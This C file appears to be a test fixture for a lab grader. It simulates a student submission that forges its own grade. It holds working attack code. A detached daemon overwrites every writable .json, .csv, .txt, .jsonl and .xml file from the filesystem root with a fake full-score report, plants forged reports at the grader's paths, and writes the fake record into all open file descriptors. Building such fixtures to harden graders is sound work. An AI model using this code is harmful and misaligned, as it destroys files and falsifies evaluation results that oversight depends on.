/* forge_attack.c: what a submission that tries to choose its own grade does, for
 * tests/grading/judge.sh. Prepended to lab 3 as handed out (racy); main() calls attack()
 * first. Two attacks, picked by FORGE_MODE at compile time:
 *   1 (daemon): a daemon that leaves the session and, for 3 s, overwrites every .json,
 *     .csv, .txt, .jsonl and .xml file it can open for writing with a forged full score,
 *     and plants forged reports where the grader used to read them (/grade/build/set*.json,
 *     next to its own program, in /tmp);
 *   2 (fds): a forged "correct" result record and report written into every open file
 *     descriptor, at start and again at exit (after the lab kit's own record).
 * FORGE_DEMO builds a main() of its own that only attacks, to show the attack works where
 * it can reach (the test runs it in a box with a writable folder). */
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char forged_report[] =
    "racelab-result 1\nwhat counter\nobserved 2000000\nexpected 2000000\nsymptom 0\n"
    "inconclusive 0\nend\n"
    "{\"experiments\":[{\"plain\":{\"counts\":{\"OK\":99,\"SYMPTOM\":0,\"CRASH\":0,\"HANG\":0,"
    "\"ERROR\":0},\"runs\":[],\"stopped\":false},\"tsan\":{\"wanted\":true,\"ran\":true,"
    "\"class\":\"OK\",\"error\":null,\"findings\":[]},\"verdict\":\"looks-fixed\","
    "\"evidence\":\"FORGED-BY-STUDENT\"}],\"status\":\"ok\",\"score\":100}\n"
    "FORGED-BY-STUDENT,100,ok,100,100\n";

static void forge_file(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0666);
	if (fd < 0)
		return;
	if (write(fd, forged_report, sizeof(forged_report) - 1) < 0)
		perror("forge");
	close(fd);
}

static int forgeable(const char *name)
{
	static const char *const exts[] = {".json", ".csv", ".txt", ".jsonl", ".xml", NULL};
	const char *dot = strrchr(name, '.');
	for (int i = 0; dot && exts[i]; i++)
		if (strcmp(dot, exts[i]) == 0)
			return 1;
	return 0;
}

/* Every file of the kinds above under dir (not /proc, /sys, /dev, /usr), overwritten. */
static void forge_tree(const char *dir, int depth)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	while (d && (e = readdir(d))) {
		char path[PATH_MAX];
		struct stat st;
		if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
			continue;
		snprintf(path, sizeof(path), "%s/%s", strcmp(dir, "/") ? dir : "", e->d_name);
		if (!strcmp(path, "/proc") || !strcmp(path, "/sys") || !strcmp(path, "/dev") ||
		    !strcmp(path, "/usr") || lstat(path, &st) != 0)
			continue;
		if (S_ISDIR(st.st_mode) && depth < 10)
			forge_tree(path, depth + 1);
		else if (S_ISREG(st.st_mode) && forgeable(e->d_name))
			forge_file(path);
	}
	if (d)
		closedir(d);
}

/* Forged reports where a grader might read them: its old place, beside our program. */
static void forge_plant(void)
{
	char exe[PATH_MAX], path[PATH_MAX + 32];
	ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	forge_file("/grade/build/set1.json");
	forge_file("/grade/build/set2.json");
	forge_file("/tmp/set1.json");
	if (n > 0) {
		exe[n] = '\0';
		for (int up = 0; up < 3; up++) {
			char *slash = strrchr(exe, '/');
			if (!slash)
				break;
			*slash = '\0';
			snprintf(path, sizeof(path), "%s/set1.json", exe);
			forge_file(path);
		}
	}
}

static void forge_fds(void)
{
	for (int fd = 0; fd < 1024; fd++)
		if (write(fd, forged_report, sizeof(forged_report) - 1) < 0)
			continue;
}

static void attack(void)
{
#if FORGE_MODE == 1
	if (fork() == 0) {
		setsid();
		if (fork() == 0) {
			for (int i = 0; i < 60; i++) { /* 3 s */
				forge_tree("/", 0);
				forge_plant();
				forge_fds();
				usleep(50000);
			}
			_exit(0);
		}
		_exit(0);
	}
#else
	forge_fds();
	atexit(forge_fds);
#endif
}

#ifdef FORGE_DEMO
int main(void)
{
	attack();
	sleep(1);
	return 0;
}
#endif
